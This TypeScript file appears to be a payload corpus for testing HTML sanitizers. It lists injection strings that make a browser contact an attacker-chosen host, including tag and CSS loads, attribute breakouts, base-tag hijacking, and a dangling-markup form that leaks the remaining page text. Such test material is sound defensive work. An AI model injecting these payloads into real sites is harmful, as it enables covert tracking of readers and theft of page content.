import { inDoubleQuotes, inText, type PayloadClass } from "../PayloadClass.ts"

/** Markup and styles that tell somebody that the page is being read. */
export const requests: ReadonlyArray<PayloadClass> = [
  {
    name: "elements that load",
    place: inText,
    effect: "request",
    payloads: [
      (_, outside) => `<img src=${outside}>`,
      (_, outside) => `<img srcset="${outside} 1x">`,
      (_, outside) => `<picture><source srcset="${outside}"><img></picture>`,
      (_, outside) => `<video poster=${outside}></video>`,
      (_, outside) => `<audio src=${outside} preload=auto></audio>`,
      (_, outside) => `<video><track default src=${outside}></video>`,
      (_, outside) => `<input type=image src=${outside}>`,
      (_, outside) => `<iframe src=${outside} sandbox></iframe>`,
      (_, outside) => `<object data=${outside}></object>`,
      (_, outside) => `<embed src=${outside}>`,
      (_, outside) => `<script src=${outside}></script>`,
      (_, outside) => `<svg><image href=${outside}></image></svg>`,
      (_, outside) => `<svg><use href="${outside}#x"></use></svg>`,
      (_, outside) => `<body background=${outside}>`,
      (_, outside) => `<table background=${outside}><tr><td>x</table>`
    ]
  },
  {
    name: "styles",
    place: inText,
    effect: "request",
    payloads: [
      (_, outside) => `<div style="background:url(${outside})">x</div>`,
      (_, outside) => `<style>@import "${outside}";</style>`,
      (_, outside) => `<style>body{background:url('${outside}')}</style>`,
      (_, outside) => `<style>@font-face{font-family:x;src:url(${outside})}p{font-family:x}</style><p>x</p>`,
      (_, outside) =>
        `<style>a[href^="#n"]{--x:url(${outside})}*{background:var(--x,url(${outside}))}</style>`,
      (_, outside) => `<b style="background-image:image-set('${outside}' 1x)">x</b>`,
      (_, outside) => `<b style="list-style:url(${outside});display:list-item">x</b>`,
      (_, outside) => `<b style="content:url(${outside})">x</b>`,
      (_, outside) => `<b style="cursor:url(${outside}),auto;border-image:url(${outside}) 1">x</b>`
    ]
  },
  {
    name: "styles out of an attribute",
    place: inDoubleQuotes,
    effect: "request",
    payloads: [
      (_, outside) => `" style="background:url(${outside})`,
      (_, outside) => `"style=background:url(${outside})//`
    ]
  },
  {
    name: "links of the head",
    place: inText,
    effect: "request",
    payloads: [
      (_, outside) => `<link rel=stylesheet href=${outside}>`,
      (_, outside) => `<link rel=preload as=image href=${outside}>`,
      (_, outside) => `<link rel=modulepreload href=${outside}>`,
      (_, outside) => `<link rel=prefetch href=${outside}>`,
      (_, outside) => `<link rel=preconnect href=${outside}>`,
      (_, outside) => `<link rel=dns-prefetch href=${outside}>`,
      (_, outside) => `<link rel=icon href=${outside}>`,
      (_, outside) => `<link rel=manifest href=${outside}>`
    ]
  },
  {
    name: "other places to be",
    place: inText,
    effect: "request",
    payloads: [
      (_, outside) => `<meta http-equiv=refresh content="0;url=http:${outside}">`,
      (_, outside) => `<base href=${outside}/><img src=x>`,
      (_, outside) => `<base target=_top href=${outside}/><a href=x>x</a>`,
      (_, outside) => `<form action=${outside}><button>x</button></form>`,
      (_, outside) => `<form id=f></form><button form=f formaction=${outside}>x</button>`,
      (_, outside) => `<form action=${outside} method=post><input name=a value=b><input type=submit></form>`,
      (_, outside) => `<form action=${outside}><textarea name=rest>`
    ]
  },
  {
    name: "policies, import maps and speculation",
    place: inText,
    effect: "request",
    payloads: [
      (_, outside) =>
        `<script type=importmap>{"imports":{"x":"http:${outside}"}}</script><script type=module>import "x"</script>`,
      (_, outside) => `<script type=speculationrules>{"prefetch":[{"urls":["http:${outside}"]}]}</script>`,
      (_, outside) =>
        `<meta http-equiv=Content-Security-Policy content="default-src *;report-uri ${outside}">`,
      (_, outside) => `<meta http-equiv=delegate-ch content="sec-ch-ua-model http:${outside}">`,
      () => '<meta http-equiv=set-cookie content="a=b">',
      () => '<meta name=referrer content=unsafe-url><meta name=viewport content="width=9999">'
    ]
  }
]
